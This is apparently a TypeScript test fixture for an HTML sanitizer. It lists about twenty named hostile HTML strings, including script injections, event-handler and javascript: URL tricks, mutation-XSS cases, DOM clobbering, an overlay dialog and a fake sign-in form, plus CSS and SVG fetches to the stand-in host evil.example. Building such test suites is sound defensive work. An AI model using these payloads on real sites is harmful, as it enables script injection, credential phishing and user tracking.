/** Each tries to run `hacked()` in the app, or to fetch something from evil.example. */
export const hostileHtml: Record<string, string> = {
  'a script': '<script>parent.hacked()</script><script src="https://evil.example/x.js"></script>',
  'a script in pieces': '<scr<script>ipt>parent.hacked()</scr</script>ipt>',
  'an event on a picture':
    '<img src=x onerror="parent.hacked()"><img src="https://evil.example/p.gif" onload=parent.hacked()>',
  'events without a click':
    '<body onload=parent.hacked() onpageshow=parent.hacked()><details open ontoggle=parent.hacked()>x</details><marquee onstart=parent.hacked()>x</marquee><style onload=parent.hacked()></style><video autoplay onloadstart=parent.hacked() src="https://evil.example/v"></video>',
  'a frame':
    '<iframe src="javascript:parent.parent.hacked()"></iframe><iframe srcdoc="<script>parent.parent.hacked()</script>"></iframe><frameset><frame src="https://evil.example/"></frameset>',
  'a plug-in':
    '<object data="https://evil.example/o"><embed src="https://evil.example/e"></object><applet code=x codebase="https://evil.example/"></applet>',
  'a form':
    '<form action="https://evil.example/" id=f><input name=password autofocus onfocus=parent.hacked()><button formaction="javascript:parent.hacked()">Sign in</button></form><input form=f type=image src="https://evil.example/i">',
  'a meta refresh':
    '<meta http-equiv=refresh content="0;url=https://evil.example/"><base href="https://evil.example/"><link rel=stylesheet href="https://evil.example/s.css"><link rel=prefetch href="https://evil.example/p"><img src="relative.gif">',
  'a link that runs':
    '<a href="javascript:parent.hacked()">a</a><a href=" java&#10;script:parent.hacked()">b</a><a href="data:text/html,<script>parent.hacked()</script>">c</a><a href="vbscript:x">d</a><a href="blob:https://x/1">e</a><a href="https://evil.example/" ping="https://evil.example/ping">f</a>',
  pictures:
    '<img src="https://evil.example/1.gif"><img src="//evil.example/2.gif"><img srcset="https://evil.example/3.gif 2x" src="data:image/gif;base64,R0lGODlhAQABAAAAACw="><picture><source srcset="https://evil.example/4.gif"><img src="cid:none"></picture><input type=image src="https://evil.example/5.gif"><img lowsrc="https://evil.example/6.gif" dynsrc="https://evil.example/7.gif">',
  backgrounds:
    '<table background="https://evil.example/1.gif"><tr><td background="//evil.example/2.gif" style="background:url(https://evil.example/3.gif)">x</td></tr></table><div style="background-image:u\\72l(https://evil.example/4.gif)">x</div><div style="background:url(&quot;https://evil.example/5.gif&quot;)">x</div><div style="list-style-image:url( \'//evil.example/6.gif\' )">x</div><div style="background:image-set(\'https://evil.example/7.gif\' 1x)">x</div><div style="cursor:url(https://evil.example/8.cur),auto">x</div>',
  'style sheets':
    '<style>@import "https://evil.example/1.css";@import url(//evil.example/2.css);@font-face{font-family:e;src:url(https://evil.example/3.woff)}body{font-family:e;background:url(https://evil.example/4.gif)}a::before{content:url(https://evil.example/5.gif)}p{background:/**/u\\000072l(https://evil.example/6.gif)}p{border-image:url(https://evil.example/7.gif) 30}</style><p>x<a>y</a></p>',
  'a style sheet that ends early':
    '<style><!--</style><img src="https://evil.example/1.gif" onerror=parent.hacked()>--></style><style></style/><script>parent.hacked()</script>',
  svg: '<svg onload=parent.hacked()><image href="https://evil.example/1.gif"/><image xlink:href="https://evil.example/2.gif"/><use href="https://evil.example/3.svg#x"/><script>parent.hacked()</script><a xlink:href="javascript:parent.hacked()"><text>x</text></a><animate onbegin=parent.hacked() attributeName=x dur=1s /><foreignObject><iframe src="javascript:parent.hacked()"></iframe></foreignObject><style>@import "https://evil.example/4.css"</style></svg>',
  'math that mutates':
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=parent.hacked()&gt;">',
  'a template that mutates': '<form><math><mtext></form><form><mglyph><style></math><img src onerror=parent.hacked()>',
  'noscript that mutates': '<noscript><p title="</noscript><img src=x onerror=parent.hacked()>">',
  media:
    '<video poster="https://evil.example/1.gif"><source src="https://evil.example/2.mp4"></video><audio src="https://evil.example/3.mp3" autoplay></audio><track src="https://evil.example/4.vtt">',
  'names that shadow':
    '<img name=body><img name=head><form name=createElement></form><a id=documentElement></a><img id=defaultView>',
  'a dialog over everything':
    '<dialog open popover=auto style="position:fixed;inset:0">Sign in again</dialog><div style="position:fixed;inset:0;z-index:99999">x</div>',
  'fetching by other words':
    '<body background="https://evil.example/1.gif"><img src="data:image/svg+xml,%3Csvg xmlns=%22http://www.w3.org/2000/svg%22%3E%3Cimage href=%22https://evil.example/2.gif%22/%3E%3Cscript%3Eparent.hacked()%3C/script%3E%3C/svg%3E"><q cite="https://evil.example/3">x</q><div style="filter:url(https://evil.example/4.svg#f);mask:url(https://evil.example/5.svg);-moz-binding:url(https://evil.example/6.xml);behavior:url(https://evil.example/7.htc)">x</div>',
  depth: `${'<div>'.repeat(3000)}<img src=x onerror=parent.hacked()>`,
}
